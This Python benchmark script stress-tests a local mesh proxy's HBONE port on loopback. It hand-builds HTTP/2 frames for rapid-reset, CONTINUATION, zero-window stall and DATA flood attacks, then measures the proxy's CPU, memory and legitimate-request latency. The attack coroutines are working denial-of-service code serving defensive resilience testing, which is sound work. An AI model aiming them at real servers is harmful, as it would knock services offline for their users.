"""HBONE flood attacks against one node proxy (local mode, loopback): what a hostile peer costs it.

Runs a node-b proxy as a subprocess with an echo app and a "blast" app (writes 2 MiB to every
connection, then waits), and attacks its HBONE port with an SVID of the mesh's own trust domain:

  rapid-reset    N HEADERS(CONNECT)+RST_STREAM pairs on one connection (the CVE-2023-44487 class)
  continuation   HEADERS without END_HEADERS then 1 MiB CONTINUATION frames, on 8 connections
  stall          100 CONNECTs to the blast app on each of 8 connections whose peer grants no window
  flood          100 CONNECTs to a "sink" app (accepts, never reads) on each of 8 connections, then DATA
                 on every stream as far as the proxy's windows allow (--mib per stream)

For each: the proxy's CPU seconds until it is quiet again, its RSS (before, peak, after), the latency of
a legitimate CONNECT (new TLS connection, 200 answer) probed every 100 ms from another thread during the
attack, upstream dials the app saw, and how the proxy ended the attacking connection.

    unshare -n sh -c 'ip link set lo up; .venv/bin/python bench/attack_bench.py'    # all three
    ... bench/attack_bench.py rapid-reset --pairs 20000 --json out.json
    ... bench/attack_bench.py stall --conns 1 --streams 1000       # one connection's share
    ZTUNNEL_BIN=/path/to/ztunnel ...                                  # measure another build of the proxy

The frame builders and attack coroutines are reused by tests/integration/test_hbone_floods.py.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import ssl
import statistics
import sys
import tempfile
import threading
import time
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
ENHANCE_YOUR_CALM = 11
BLAST_PORT = 8082
BLAST_BYTES = 2 * 1024 * 1024
SINK_PORT = 8083


# ---- frames (built by hand: an attacker does not go through h2's checks, and 20,000 pairs must be cheap) ----
def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def connect_block(authority: str) -> bytes:
    """An HPACK block `:method CONNECT, :authority <authority>`: literals without indexing (stateless, so
    the same bytes serve every stream)."""
    a = authority.encode()
    return b"\x02\x07CONNECT" + b"\x01" + bytes([len(a)]) + a


def settings(**values: int) -> bytes:
    codes = {"initial_window_size": 0x4, "max_frame_size": 0x5}
    body = b"".join(codes[k].to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in values.items())
    return frame(SETTINGS, 0, 0, body)


def rapid_reset_pairs(authority: str, first_stream: int, count: int) -> bytes:
    block = connect_block(authority)
    rst = CANCEL.to_bytes(4, "big")
    out = bytearray()
    for i in range(count):
        sid = first_stream + 2 * i
        out += frame(HEADERS, END_HEADERS, sid, block)
        out += frame(RST_STREAM, 0, sid, rst)
    return bytes(out)


class FrameReader:
    """Reads the proxy's frames off an attacking connection; records a GOAWAY's error code and counts the
    RST_STREAMs by error code."""

    def __init__(self, reader: asyncio.StreamReader) -> None:
        self.reader = reader
        self.goaway: int | None = None
        self.resets: dict[int, int] = {}
        self.reset_streams: set[int] = set()
        self.answered: set[int] = set()  # streams the proxy sent HEADERS on (its answer)
        self.windows: dict[int, int] = {0: 65535}  # send credit the proxy granted: connection (0) and streams
        self.initial_window = 65535
        self.frames = 0
        self.closed = asyncio.Event()
        self.changed = asyncio.Event()  # set on every answer, reset and window update

    async def run(self) -> None:
        buf = bytearray()
        try:
            while data := await self.reader.read(1 << 16):
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == GOAWAY and self.goaway is None:
                        self.goaway = int.from_bytes(buf[9 + 4 : 9 + 8], "big")
                    elif buf[3] == RST_STREAM and length == 4:
                        code = int.from_bytes(buf[9:13], "big")
                        self.resets[code] = self.resets.get(code, 0) + 1
                        self.reset_streams.add(int.from_bytes(buf[5:9], "big"))
                        self.changed.set()
                    elif buf[3] == HEADERS:
                        self.answered.add(int.from_bytes(buf[5:9], "big"))
                        self.changed.set()
                    elif buf[3] == WINDOW_UPDATE and length == 4:
                        sid = int.from_bytes(buf[5:9], "big")
                        self.windows[sid] = self.windows.get(sid, 0) + int.from_bytes(buf[9:13], "big")
                        self.changed.set()
                    elif buf[3] == SETTINGS and not buf[4] & 1:
                        for at in range(9, 9 + length - 5, 6):
                            if int.from_bytes(buf[at : at + 2], "big") == 0x4:
                                self.initial_window = int.from_bytes(buf[at + 2 : at + 6], "big")
                    self.frames += 1
                    del buf[: 9 + length]
        except (ConnectionError, ssl.SSLError, OSError):
            pass
        finally:
            self.closed.set()


async def open_attacker(
    ctx: ssl.SSLContext, address: tuple[str, int], first: bytes = b"", local_addr: tuple[str, int] | None = None
) -> tuple[asyncio.StreamWriter, FrameReader, asyncio.Task[None]]:
    """A TLS connection that sent the preface, empty SETTINGS and `first`; `local_addr` binds the client
    socket (another loopback address is another client node to the proxy)."""
    reader, writer = await asyncio.open_connection(*address, ssl=ctx, server_hostname="", local_addr=local_addr)
    writer.write(PREFACE + settings() + first)
    frames = FrameReader(reader)
    task = asyncio.ensure_future(frames.run())
    return writer, frames, task


async def write_or_closed(writer: asyncio.StreamWriter, data: bytes) -> bool:
    """Write and drain; False once the proxy closed the connection."""
    if writer.is_closing():
        return False
    try:
        writer.write(data)
        await writer.drain()
    except (ConnectionError, ssl.SSLError, OSError):
        return False
    return True


async def close_writer(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError):
        async with asyncio.timeout(2):
            await writer.wait_closed()


# ---- the attacks ---------------------------------------------------------------------------------------
async def rapid_reset(
    ctx: ssl.SSLContext, address: tuple[str, int], authority: str, pairs: int, batch: int = 500
) -> dict[str, Any]:
    writer, frames, task = await open_attacker(ctx, address)
    sent = 0
    started = time.monotonic()
    try:
        while sent < pairs:
            n = min(batch, pairs - sent)
            if not await write_or_closed(writer, rapid_reset_pairs(authority, 1 + 2 * sent, n)):
                break
            sent += n
        send_s = time.monotonic() - started
        with contextlib.suppress(asyncio.TimeoutError):
            async with asyncio.timeout(5):  # a proxy that ends the connection does it at once
                await frames.closed.wait()
        closed = frames.closed.is_set()
    finally:
        await close_writer(writer)
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
    return {"pairs_sent": sent, "send_s": round(send_s, 3), "goaway": frames.goaway, "closed_by_proxy": closed}


async def continuation_flood(
    ctx: ssl.SSLContext, address: tuple[str, int], authority: str, conns: int, frames_per_conn: int, hold: float
) -> dict[str, Any]:
    chunk = b"\x00" * (1024 * 1024)
    opened = [await open_attacker(ctx, address, settings()) for _ in range(conns)]
    sent = [0] * conns

    async def flood(i: int) -> None:
        writer = opened[i][0]
        if not await write_or_closed(writer, frame(HEADERS, 0, 1, connect_block(authority))):
            return
        for _ in range(frames_per_conn - 1):
            if not await write_or_closed(writer, frame(CONTINUATION, 0, 1, chunk)):
                return
            sent[i] += len(chunk)

    try:
        await asyncio.gather(*(flood(i) for i in range(conns)))
        await asyncio.sleep(hold)  # hold the buffered header blocks (what RSS shows now is what they pin)
        closed = sum(f.closed.is_set() for _w, f, _t in opened)
    finally:
        for writer, _frames, task in opened:
            await close_writer(writer)
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
    codes = sorted({f.goaway for _w, f, _t in opened if f.goaway is not None})
    return {"continuation_bytes_sent": sum(sent), "goaway_codes": codes, "closed_by_proxy": closed}


async def stall(
    ctx: ssl.SSLContext,
    address: tuple[str, int],
    authority: str,
    conns: int,
    streams: int,
    hold: float,
    settle_after_reset: float | None = None,
) -> dict[str, Any]:
    """CONNECTs whose peer grants no window (INITIAL_WINDOW_SIZE 0) but keeps reading the socket: whatever
    the app sends stays in the proxy. With `settle_after_reset`, the hold ends that long after the first
    stream the proxy resets with ENHANCE_YOUR_CALM (its memory budget reached), `hold` being the deadline."""
    block = connect_block(authority)
    opened = []
    for _ in range(conns):
        heads = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(streams))
        opened.append(await open_attacker(ctx, address, settings(initial_window_size=0) + heads))
    try:
        if settle_after_reset is None:
            await asyncio.sleep(hold)
        else:
            deadline = time.monotonic() + hold
            while time.monotonic() < deadline and not any(f.resets.get(ENHANCE_YOUR_CALM) for _w, f, _t in opened):
                await asyncio.sleep(0.05)
            await asyncio.sleep(min(settle_after_reset, max(0.0, deadline - time.monotonic())))
        closed = sum(f.closed.is_set() for _w, f, _t in opened)
    finally:
        for writer, _frames, task in opened:
            await close_writer(writer)
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
    codes = sorted({f.goaway for _w, f, _t in opened if f.goaway is not None})
    resets: dict[int, int] = {}
    for _w, f, _t in opened:
        for code, n in f.resets.items():
            resets[code] = resets.get(code, 0) + n
    return {"streams": conns * streams, "goaway_codes": codes, "closed_by_proxy": closed, "resets_by_code": resets}


async def flood(
    ctx: ssl.SSLContext,
    address: tuple[str, int],
    authority: str,
    conns: int,
    streams: int,
    per_stream: int,
    hold: float,
    settle_after_reset: float | None = None,
    frame_size: int = 64 * 1024,
) -> dict[str, Any]:
    """CONNECTs to an app that never reads, then DATA on every stream, round robin, as far as the windows the
    proxy grants allow (up to `per_stream` bytes each): what the app does not take waits in the proxy. Ends
    when nothing more can be sent for `hold` s, or `settle_after_reset` s after the first stream the proxy
    resets with ENHANCE_YOUR_CALM (`hold` being the deadline from the proxy's answers)."""
    block = connect_block(authority)
    payload = b"f" * frame_size
    ids = [1 + 2 * i for i in range(streams)]
    opened = [
        await open_attacker(ctx, address, b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in ids))
        for _ in range(conns)
    ]
    sent = [dict.fromkeys(ids, 0) for _ in opened]
    total = 0
    first_reset: float | None = None

    async def send(i: int) -> None:
        nonlocal total, first_reset
        writer, f, _task = opened[i]
        mine = sent[i]
        conn_sent = 0
        async with asyncio.timeout(30):
            while len(f.answered) + len(f.reset_streams) < streams and not f.closed.is_set():
                f.changed.clear()
                await f.changed.wait()
        deadline = time.monotonic() + hold
        while not f.closed.is_set() and time.monotonic() < deadline:
            if first_reset is not None and time.monotonic() > first_reset + (settle_after_reset or 0.0):
                return
            if first_reset is None and settle_after_reset is not None and f.resets.get(ENHANCE_YOUR_CALM):
                first_reset = time.monotonic()
            f.changed.clear()
            out = bytearray()
            for sid in ids:
                if sid in f.reset_streams or sid not in f.answered:
                    continue
                n = min(
                    frame_size,
                    per_stream - mine[sid],
                    f.initial_window + f.windows.get(sid, 0) - mine[sid],
                    f.windows[0] - conn_sent,
                )
                if n > 0:
                    out += frame(DATA, 0, sid, payload[:n])
                    mine[sid] += n
                    conn_sent += n
            if out:
                total += len(out)
                if not await write_or_closed(writer, bytes(out)):
                    return
                continue
            if all(mine[sid] >= per_stream or sid in f.reset_streams for sid in ids):
                return
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(min(0.25, max(0.0, deadline - time.monotonic()))):
                    await f.changed.wait()

    try:
        senders = [asyncio.ensure_future(send(i)) for i in range(conns)]
        await asyncio.gather(*senders, return_exceptions=True)
        closed = sum(f.closed.is_set() for _w, f, _t in opened)
    finally:
        for writer, _frames, task in opened:
            await close_writer(writer)
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
    resets: dict[int, int] = {}
    for _w, f, _t in opened:
        for code, n in f.resets.items():
            resets[code] = resets.get(code, 0) + n
    return {
        "streams": conns * streams,
        "answered": sum(len(f.answered) for _w, f, _t in opened),
        "data_mib_sent": round(total / 2**20, 1),
        "goaway_codes": sorted({f.goaway for _w, f, _t in opened if f.goaway is not None}),
        "closed_by_proxy": closed,
        "resets_by_code": resets,
    }


# ---- the legitimate probe, in its own thread and loop ------------------------------------------------------
class Probe:
    """A legitimate CONNECT (new TLS connection, 200 expected) every `interval` s; records each latency."""

    def __init__(self, ctx: ssl.SSLContext, address: tuple[str, int], authority: str, interval: float = 0.1) -> None:
        self.ctx, self.address, self.authority, self.interval = ctx, address, authority, interval
        self.latencies: list[float] = []
        self.failures = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="probe", daemon=True)

    def __enter__(self) -> Probe:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(90)

    def _run(self) -> None:
        asyncio.run(self._loop())

    async def _loop(self) -> None:
        from tests.integration.conftest import raw_hbone_status

        while not self._stop.is_set():
            started = time.monotonic()
            try:
                async with asyncio.timeout(60):
                    status = await raw_hbone_status(
                        self.ctx, self.address, [(":method", "CONNECT"), (":authority", self.authority)]
                    )
                ok = status == 200
            except (TimeoutError, OSError, ssl.SSLError, asyncio.IncompleteReadError):
                ok = False
            elapsed = time.monotonic() - started
            if ok:
                self.latencies.append(elapsed)
            else:
                self.failures += 1
            await asyncio.sleep(max(0.0, self.interval - elapsed))

    def summary(self) -> dict[str, Any]:
        lat = sorted(self.latencies)
        return {
            "probes": len(lat),
            "probe_failures": self.failures,
            "probe_p50_ms": round(statistics.median(lat) * 1000, 1) if lat else None,
            "probe_max_ms": round(lat[-1] * 1000, 1) if lat else None,
        }


# ---- the proxy's resources --------------------------------------------------------------------------------
def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def status_kib(pid: int, key: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    return 0


def wait_quiet(pid: int, timeout: float = 120.0, window: float = 0.5, threshold: float = 0.02) -> float:
    """Wait until the proxy uses less than `threshold` CPU-seconds per `window`; returns the wait."""
    started = time.monotonic()
    last = cpu_seconds(pid)
    while time.monotonic() - started < timeout:
        time.sleep(window)
        now = cpu_seconds(pid)
        if now - last < threshold:
            break
        last = now
    return time.monotonic() - started


@dataclass
class Result:
    attack: str
    params: dict[str, Any]
    proxy_cpu_s: float = 0.0
    rss_before_mib: float = 0.0
    rss_peak_mib: float = 0.0
    rss_after_mib: float = 0.0
    app_connections: int = 0
    outcome: dict[str, Any] = field(default_factory=dict)
    probe: dict[str, Any] = field(default_factory=dict)


class RssSampler:
    """Samples the proxy's RSS every 50 ms (VmHWM would keep the peak of earlier attacks)."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(OSError):
                self.peak = max(self.peak, status_kib(self.pid, "VmRSS"))
            self._stop.wait(0.05)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)


def measure(
    name: str,
    params: dict[str, Any],
    pid: int,
    apps: Any,
    probe_args: tuple[ssl.SSLContext, tuple[str, int], str],
    attack: Callable[[], Awaitable[dict[str, Any]]],
) -> Result:
    wait_quiet(pid)
    result = Result(name, params, rss_before_mib=round(status_kib(pid, "VmRSS") / 1024, 1))
    dials = apps.connections
    cpu = cpu_seconds(pid)
    with RssSampler(pid) as rss, Probe(*probe_args) as probe:
        result.outcome = asyncio.run(attack())
        wait_quiet(pid)
    result.proxy_cpu_s = round(cpu_seconds(pid) - cpu, 2)
    result.rss_peak_mib = round(rss.peak / 1024, 1)
    result.rss_after_mib = round(status_kib(pid, "VmRSS") / 1024, 1)
    result.app_connections = apps.connections - dials - len(probe.latencies)  # the probes' own dials excluded
    result.probe = probe.summary()
    return result


def blast_app(apps: Any, ip: str, port: int = BLAST_PORT) -> None:
    """An app that writes BLAST_BYTES to every connection, then waits for the client to go."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        apps.connections += 1
        try:
            writer.write(b"b" * BLAST_BYTES)
            await reader.read()
        except (ConnectionError, OSError):
            pass
        finally:
            writer.close()

    apps._servers.append(apps._run(asyncio.start_server(serve, ip, port, reuse_address=True, backlog=2048)))


def sink_app(apps: Any, ip: str, port: int = SINK_PORT) -> None:
    """An app that accepts every connection and never reads it (until the client goes)."""
    held: set[asyncio.StreamWriter] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        apps.connections += 1
        held.add(writer)
        writer.transport.pause_reading()
        try:
            await writer.wait_closed()
        except (ConnectionError, OSError):
            pass
        finally:
            held.discard(writer)
            writer.close()

    apps._servers.append(apps._run(asyncio.start_server(serve, ip, port, reuse_address=True, backlog=2048)))


def main(argv: list[str] | None = None) -> int:
    import tests.integration.conftest as fixtures
    from tests.integration.conftest import ECHO_PORT, NODE_B_SERVER, AppServer, mesh_config, start_proxy
    from tests.support.svids import signed_svid
    from ztunnel.identity.ca import init_ca_dir
    from ztunnel.identity.spiffe import SpiffeId
    from ztunnel.identity.tls import client_context

    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attacks", nargs="*", default=["rapid-reset", "continuation", "stall"])
    p.add_argument("--pairs", type=int, default=20000)
    p.add_argument("--conns", type=int, default=8)
    p.add_argument("--frames", type=int, default=64, help="HEADERS + CONTINUATION frames per connection")
    p.add_argument("--streams", type=int, default=100, help="stalled streams per connection")
    p.add_argument("--hold", type=float, default=5.0)
    p.add_argument("--mib", type=float, default=4.0, help="flood: MiB sent per stream at most")
    p.add_argument("--json", type=Path)
    args = p.parse_args(argv)
    if os.environ.get("ZTUNNEL_BIN"):  # another build of the proxy, e.g. the code before a fix
        fixtures.ZTUNNEL = os.environ["ZTUNNEL_BIN"]

    identity = SpiffeId.parse("spiffe://cluster.local/ns/shop/sa/client")
    address = (NODE_B_SERVER, 15008)
    echo = f"{NODE_B_SERVER}:{ECHO_PORT}"
    blast = f"{NODE_B_SERVER}:{BLAST_PORT}"
    sink = f"{NODE_B_SERVER}:{SINK_PORT}"
    results: list[Result] = []
    for attack in args.attacks:  # each against a fresh proxy, so one's memory does not show in the next
        with tempfile.TemporaryDirectory(prefix="attack-bench-") as tmp:
            work = Path(tmp)
            ca_dir = work / "ca"
            init_ca_dir(ca_dir)
            config = work / "cluster.yaml"
            config.write_text(mesh_config())
            apps = AppServer()
            proxy = None
            try:
                apps.echo(NODE_B_SERVER)
                blast_app(apps, NODE_B_SERVER)
                sink_app(apps, NODE_B_SERVER)
                proxy = start_proxy("node-b", config, ca_dir, work)
                ctx = client_context(signed_svid(ca_dir, identity))
                pid = proxy.proc.pid
                probe = (ctx, address, echo)
                if attack == "rapid-reset":
                    result = measure(
                        attack, {"pairs": args.pairs}, pid, apps, probe,
                        lambda ctx=ctx: rapid_reset(ctx, address, echo, args.pairs),
                    )
                elif attack == "continuation":
                    result = measure(
                        attack, {"conns": args.conns, "frames": args.frames, "hold_s": args.hold}, pid, apps, probe,
                        lambda ctx=ctx: continuation_flood(ctx, address, echo, args.conns, args.frames, args.hold),
                    )
                elif attack == "stall":
                    result = measure(
                        attack, {"conns": args.conns, "streams": args.streams, "hold_s": args.hold}, pid, apps, probe,
                        lambda ctx=ctx: stall(ctx, address, blast, args.conns, args.streams, args.hold),
                    )
                elif attack == "flood":
                    per_stream = int(args.mib * 2**20)
                    result = measure(
                        attack,
                        {"conns": args.conns, "streams": args.streams, "mib_per_stream": args.mib, "hold_s": args.hold},
                        pid, apps, probe,
                        lambda ctx=ctx, n=per_stream: flood(ctx, address, sink, args.conns, args.streams, n, args.hold),
                    )
                else:
                    p.error(f"unknown attack {attack!r} (rapid-reset, continuation, stall, flood)")
            finally:
                if proxy is not None:
                    proxy.stop()
                apps.close()
        results.append(result)
        print(json.dumps(asdict(result)), flush=True)
    if args.json:
        args.json.write_text(json.dumps([asdict(r) for r in results], indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
